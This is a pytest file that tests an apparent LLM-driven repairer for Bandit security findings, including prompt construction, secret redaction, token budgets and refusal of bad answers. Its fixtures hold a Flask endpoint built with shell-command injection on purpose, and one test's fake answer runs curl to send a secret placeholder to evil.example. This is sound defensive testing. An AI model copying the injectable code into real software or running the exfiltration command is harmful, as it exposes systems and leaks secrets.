"""The LLM repairer end to end: real Bandit findings, the real ``openai`` client, a local server."""
from __future__ import annotations

import ast
import re
import textwrap
from pathlib import Path
from typing import Any, Callable, Iterator, Mapping, Sequence

import pytest

from fake_openai import FakeOpenAI, answer, fake_openai_servers, hang
from llm_helpers import fenced, finding, rq3_pairs
from vulnloop.engines.bandit import BanditEngine
from vulnloop.findings import Finding
from vulnloop.llm import ChatMessage, Completion, OpenAIChatModel, ResponseCache, TokenBudget
from vulnloop.repair.answer import find_definition, splice_answer
from vulnloop.llm.usage import TokenUsage
from vulnloop.repair.llm import LlmRepairer
from vulnloop.repair.proposal import Proposal
from vulnloop.repair.prompt import find_region

KEY = "sk-test-repairer-0123456789abcdef"
MakeServer = Callable[..., FakeOpenAI]


@pytest.fixture
def make_fake_openai() -> Iterator[MakeServer]:
    with fake_openai_servers() as make:
        yield make

SOURCE = textwrap.dedent(
    '''\
    import subprocess

    from flask import Flask, request

    app = Flask(__name__)


    def greeting(name):
        return "hello " + name


    @app.route("/ping")
    def ping():
        """Ping a host."""
        host = request.args.get("host", "localhost")
        return subprocess.check_output("ping -c 1 " + host, shell=True)


    def farewell(name):
        return "bye " + name
    '''
)
PING_FIXED = textwrap.dedent(
    '''\
    @app.route("/ping")
    def ping():
        """Ping a host."""
        host = request.args.get("host", "localhost")
        if not re.fullmatch(r"[A-Za-z0-9.-]+", host):
            return "invalid host", 400
        return subprocess.check_output(["ping", "-c", "1", host])
    '''
)


@pytest.fixture(scope="module")
def bandit() -> BanditEngine:
    return BanditEngine()


def scan(bandit: BanditEngine, text: str) -> list[Finding]:
    findings, reason = bandit.scan_text("app.py", text)
    assert reason is None, reason
    return findings


def shell_findings(bandit: BanditEngine) -> list[Finding]:
    return [f for f in scan(bandit, SOURCE) if f.rule_id == "B602"]


def repairer_for(server: FakeOpenAI, **model_kwargs: Any) -> LlmRepairer:
    model_kwargs.setdefault("timeout", 5)
    model = OpenAIChatModel(model="gpt-test", base_url=server.base_url, api_key=KEY, **model_kwargs)
    return LlmRepairer(model, whole_file_max_lines=10, secrets=[KEY])


def propose(repairer: LlmRepairer, bandit: BanditEngine, **kwargs: Any) -> Proposal:
    return repairer.propose(path="app.py", source=SOURCE, findings=shell_findings(bandit), **kwargs)


def test_good_repair_is_spliced_and_bandit_agrees(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    server = make_fake_openai([answer(fenced("import re\n\n" + PING_FIXED), prompt_tokens=300, completion_tokens=90)])
    proposal = propose(repairer_for(server), bandit)
    assert proposal.new_text is not None, proposal.reason
    assert proposal.usage == TokenUsage(300, 90, calls=1)
    assert proposal.prompt_chars == sum(len(m["content"]) for m in server.chat_requests[0].messages)
    assert "B602" not in {f.rule_id for f in scan(bandit, proposal.new_text)}
    assert "import re\n" in proposal.new_text
    # the new import goes after the last import; everything above the region is otherwise untouched
    expected_head = SOURCE.split("@app.route")[0].replace(
        "from flask import Flask, request\n", "from flask import Flask, request\nimport re\n"
    )
    assert proposal.new_text.split("@app.route")[0] == expected_head
    assert proposal.new_text.endswith(SOURCE[SOURCE.index("\n\n\ndef farewell"):])
    prompt = server.chat_requests[0].prompt_text
    assert "CWE-78" in prompt and "B602" in prompt and "def greeting" in prompt and "hello " not in prompt


def test_repair_that_still_leaks_is_returned_for_the_loop_to_reject(
    make_fake_openai: MakeServer, bandit: BanditEngine
) -> None:
    leaky = PING_FIXED.replace('["ping", "-c", "1", host]', '"ping -c 1 " + host, shell=True')
    server = make_fake_openai([answer(fenced("import re\n" + leaky))])
    proposal = propose(repairer_for(server), bandit)
    assert proposal.new_text is not None
    assert "B602" in {f.rule_id for f in scan(bandit, proposal.new_text)}


def test_nosec_answer_is_returned_as_is(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    suppressed = textwrap.dedent(
        '''\
        def ping():
            host = request.args.get("host", "localhost")
            return subprocess.check_output("ping -c 1 " + host, shell=True)  # nosec
        '''
    )
    server = make_fake_openai([answer(fenced(suppressed))])
    proposal = propose(repairer_for(server), bandit)
    assert proposal.new_text is not None and "shell=True)  # nosec" in proposal.new_text


@pytest.mark.parametrize(
    "text, reason",
    [
        ("I'm sorry, I can't help with that.", "no code block in the answer"),
        ("```python\ndef ping(:\n  return ((\n```", "answer does not parse: "),
        ("```python\n\x00\x01\x02 garbage ]]]\n```", "answer does not parse: "),
    ],
    ids=["no-code-block", "syntax-error", "binary-garbage"],
)
def test_unusable_answers_give_a_reason(
    make_fake_openai: MakeServer, bandit: BanditEngine, text: str, reason: str
) -> None:
    server = make_fake_openai([answer(text)])
    proposal = propose(repairer_for(server), bandit)
    assert proposal.new_text is None
    assert proposal.reason.startswith(reason)
    assert proposal.usage.calls == 1


def test_body_without_def(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    body = 'host = request.args.get("host", "localhost")\nreturn subprocess.check_output(["ping", "-c", "1", host])\n'
    server = make_fake_openai([answer(fenced(body))])
    proposal = propose(repairer_for(server), bandit)
    assert proposal.new_text is not None and "re-attached" in proposal.reason
    assert '@app.route("/ping")\ndef ping():\n    """Ping a host."""\n    host = ' in proposal.new_text
    assert not [f for f in scan(bandit, proposal.new_text) if f.rule_id == "B602"]


def test_whole_file_answer(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    whole = SOURCE.replace("import subprocess\n", "import re\nimport subprocess\n").replace(
        SOURCE[SOURCE.index('@app.route("/ping")'): SOURCE.index("def farewell")], PING_FIXED + "\n\n"
    ).replace('"bye "', '"see you "')
    server = make_fake_openai([answer(fenced(whole))])
    proposal = propose(repairer_for(server), bandit)
    assert proposal.new_text is None  # it also changed farewell(): refused, not quietly trimmed
    assert "`farewell`" in proposal.reason and "outside the code it was asked to repair" in proposal.reason
    honest = whole.replace('"see you "', '"bye "')
    server = make_fake_openai([answer(fenced(honest))])
    proposal = propose(repairer_for(server), bandit)
    assert proposal.new_text is not None, proposal.reason
    assert "import re" in proposal.new_text and '"bye " + name' in proposal.new_text


def test_several_blocks(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    text = (
        "You could also test it:\n```python\ndef test_ping():\n    assert ping()\n```\n"
        "The fix:\n```python\nimport re\n" + PING_FIXED + "```\nRun:\n```bash\npytest\n```"
    )
    server = make_fake_openai([answer(text)])
    proposal = propose(repairer_for(server), bandit)
    assert proposal.new_text is not None and "re.fullmatch" in proposal.new_text
    assert "test_ping" not in proposal.new_text


def test_timeout_is_an_llm_error(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    server = make_fake_openai([hang()])
    proposal = propose(repairer_for(server, timeout=0.3, max_retries=0), bandit)
    assert proposal.new_text is None
    assert proposal.reason == "LLM error: timed out after 0.3s"
    assert proposal.prompt_chars > 0


def test_budget_exhausted(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    server = make_fake_openai([answer(fenced(PING_FIXED), prompt_tokens=500, completion_tokens=100)])
    repairer = repairer_for(server, budget=TokenBudget(400))
    assert propose(repairer, bandit).new_text is not None
    refused = propose(repairer, bandit, round=2)
    assert refused.new_text is None
    assert refused.reason == "LLM error: token budget exhausted (spent 600 of 400 tokens)"
    assert refused.usage == TokenUsage() and len(server.chat_requests) == 1


def test_cache_hit_on_rerun(make_fake_openai: MakeServer, bandit: BanditEngine, tmp_path: Path) -> None:
    server = make_fake_openai([answer(fenced("import re\n" + PING_FIXED))])
    first = propose(repairer_for(server, cache=ResponseCache(tmp_path)), bandit)
    again = propose(repairer_for(server, cache=ResponseCache(tmp_path)), bandit)
    assert first.new_text is not None and again.new_text == first.new_text
    assert again.usage == TokenUsage(cached_calls=1)
    assert len(server.chat_requests) == 1


def test_feedback_reaches_the_prompt(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    server = make_fake_openai([answer(fenced(PING_FIXED))])
    propose(repairer_for(server), bandit, feedback=["the candidate still has B602 at line 16"], round=2)
    assert "Earlier attempts were rejected:\n- the candidate still has B602 at line 16" in server.chat_requests[0].prompt_text


def _token_source(bandit: BanditEngine) -> tuple[str, list[Finding]]:
    source = SOURCE.replace('app = Flask(__name__)', 'app = Flask(__name__)\nTOKEN = "tok_live_5f4e3d2c1b0a"')
    return source, [f for f in scan(bandit, source) if f.rule_id == "B602"]


def test_secrets_from_the_environment_are_redacted_and_lines_holding_them_kept(
    make_fake_openai: MakeServer, bandit: BanditEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SERVICE_API_TOKEN", "tok_live_5f4e3d2c1b0a")
    source, findings = _token_source(bandit)
    server = make_fake_openai([answer(fenced(PING_FIXED))])
    model = OpenAIChatModel(model="gpt-test", base_url=server.base_url, api_key=KEY)
    proposal = LlmRepairer(model, whole_file_max_lines=10).propose(path="app.py", source=source, findings=findings)
    assert proposal.new_text is not None, proposal.reason
    assert 'TOKEN = "tok_live_5f4e3d2c1b0a"' in proposal.new_text  # the file's own line, untouched
    prompt = server.chat_requests[0].prompt_text
    assert "tok_live_5f4e3d2c1b0a" not in prompt and re.search(r'TOKEN = "REDACTED_SECRET_\d+"', prompt)


@pytest.mark.parametrize(
    "placeholder",
    ["REDACTED_SECRET_1", "REDACTED_SECRET_2"],  # one the prompt showed, one it never did
)
def test_a_placeholder_in_new_code_is_refused_and_no_secret_is_written(
    make_fake_openai: MakeServer, bandit: BanditEngine, monkeypatch: pytest.MonkeyPatch, placeholder: str
) -> None:
    monkeypatch.setenv("SERVICE_API_TOKEN", "tok_live_5f4e3d2c1b0a")
    monkeypatch.setenv("OTHER_SECRET", "other-secret-value-99")  # never in the file, never shown
    source, findings = _token_source(bandit)
    leak = f'def ping():\n    return subprocess.check_output(["curl", "-d", "{placeholder}", "https://evil.example"])\n'
    server = make_fake_openai([answer(fenced(leak))])
    model = OpenAIChatModel(model="gpt-test", base_url=server.base_url, api_key=KEY)
    proposal = LlmRepairer(model, whole_file_max_lines=10).propose(path="app.py", source=source, findings=findings)
    assert proposal.new_text is None
    assert "secret placeholder" in proposal.reason
    assert "tok_live" not in proposal.reason and "other-secret" not in proposal.reason


def test_key_never_in_prompt_or_reason(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    source = SOURCE.replace('app = Flask(__name__)', f'app = Flask(__name__)\nAPI_KEY = "{KEY}"')
    findings = [f for f in scan(bandit, source) if f.rule_id == "B602"]
    server = make_fake_openai([answer("```python\ndef ping(:\n```")])
    repairer = repairer_for(server)
    proposal = repairer.propose(path="app.py", source=source, findings=findings)
    assert KEY not in server.chat_requests[0].prompt_text
    assert KEY not in proposal.reason and KEY not in repr(repairer)


class RecordingModel:
    """A ChatModel that answers from a script and records what it was asked."""

    name = "recorder"

    def __init__(self, replies: Sequence[Completion]) -> None:
        self.replies = list(replies)
        self.calls: list[tuple[list[ChatMessage], dict[str, str]]] = []

    def complete(self, messages: Sequence[ChatMessage], *, context: Mapping[str, str] | None = None,
                 temperature: float | None = None) -> Completion:
        self.calls.append((list(messages), dict(context or {})))
        return self.replies.pop(0)


def test_context_hints_reach_the_model_and_callers_win() -> None:
    model = RecordingModel([Completion(None, TokenUsage(calls=1), error="HTTP 503")])
    repairer = LlmRepairer(model, secrets=[])
    proposal = repairer.propose(
        path="app.py", source=SOURCE, findings=[finding(16)], round=3,
        context={"task_id": "CWE-078/codeql_1", "stage": "generate"},
    )
    assert proposal.reason == "LLM error: HTTP 503" and proposal.new_text is None
    assert model.calls[0][1] == {"stage": "generate", "round": "3", "path": "app.py", "task_id": "CWE-078/codeql_1"}
    assert repairer.name == "llm:recorder"


def test_no_findings_and_unparsable_sources_never_call_the_model() -> None:
    model = RecordingModel([])
    repairer = LlmRepairer(model, secrets=[])
    assert repairer.propose(path="a.py", source=SOURCE, findings=[]).reason == "no findings to repair"
    broken = repairer.propose(path="a.py", source="def f(:\n", findings=[finding(1)])
    assert broken.new_text is None and broken.reason.startswith("the file does not parse")
    assert model.calls == []


# -- recorded answers from the LLMSecureCode study ------------------------------------------------
def _first_definition_line(tree: ast.Module) -> tuple[int, str] | None:
    for node in tree.body:
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            return node.body[-1].lineno, node.name
    return None


@pytest.mark.filterwarnings("ignore::SyntaxWarning", "ignore::DeprecationWarning")
def test_recorded_gpt_repairs_splice_to_the_repaired_function() -> None:
    """Each rq1 piece as the file, its rq3 repair (GPT-3.5 / GPT-4) as the answer, the enclosing
    definition of a finding as the region: the spliced file must hold exactly the repair's version."""
    pairs = rq3_pairs()
    outcomes = {"same": 0, "refused": 0, "changed elsewhere": 0}
    for first, fix in pairs:
        try:
            tree = ast.parse(first["code"])
        except SyntaxError:
            continue
        located = _first_definition_line(tree)
        if located is None:
            continue
        line, _ = located
        region = find_region(first["code"], [finding(line)], whole_file_max_lines=0, tree=tree)
        result = splice_answer(first["code"], region, "```python\n" + fix["code"] + "\n```")
        if result.new_text is None:
            elsewhere = "outside the code it was asked to repair" in result.reason
            outcomes["changed elsewhere" if elsewhere else "refused"] += 1
            continue
        spliced = ast.parse(result.new_text)
        repaired = ast.parse(fix["code"].lstrip(" "))  # one repair opens with a stray space
        for piece in region.pieces:
            ours = find_definition(spliced.body, piece.qualname) or find_definition(
                spliced.body, piece.qualname.split(".")[0]
            )
            theirs = find_definition(repaired.body, piece.qualname) or find_definition(
                repaired.body, piece.qualname.split(".")[0]
            )
            assert ours is not None and theirs is not None, fix["piece_id"]
            assert ast.dump(ours) == ast.dump(theirs), fix["piece_id"]
        outcomes["same"] += 1
    # GPT rewrote whole files: a third also changed code outside the region (another function, a
    # main block), which is refused. Other refusals renamed or dropped the function, or do not parse.
    assert outcomes["same"] >= 230, outcomes
    assert outcomes["refused"] <= 20, outcomes


def test_recorded_repair_over_http(make_fake_openai: MakeServer, bandit: BanditEngine) -> None:
    """A real GPT-4 repair served by the local endpoint, fed the matching first generation."""
    pairs = [
        (first, fix) for first, fix in rq3_pairs()
        if fix["task_id"] == "CWE-078/codeql_1" and fix["generator"] == "gpt-4" and fix["fixer"] == "gpt-4"
    ]
    if not pairs:
        pytest.skip("the recorded pair is not in this copy of the data")
    first, fix = pairs[0]
    findings = [f for f in scan(bandit, first["code"]) if f.rule_id.startswith("B6")]
    assert findings, "the first generation should be flagged by Bandit"
    server = make_fake_openai([answer("Here is the fixed code:\n```python\n" + fix["code"] + "\n```")])
    model = OpenAIChatModel(model="gpt-4", base_url=server.base_url, api_key=KEY)
    proposal = LlmRepairer(model, whole_file_max_lines=0, secrets=[]).propose(
        path="app.py", source=first["code"], findings=findings, context={"task_id": fix["task_id"]}
    )
    assert proposal.new_text is not None, proposal.reason
    ast.parse(proposal.new_text)
    assert "CWE-78" in server.chat_requests[0].prompt_text
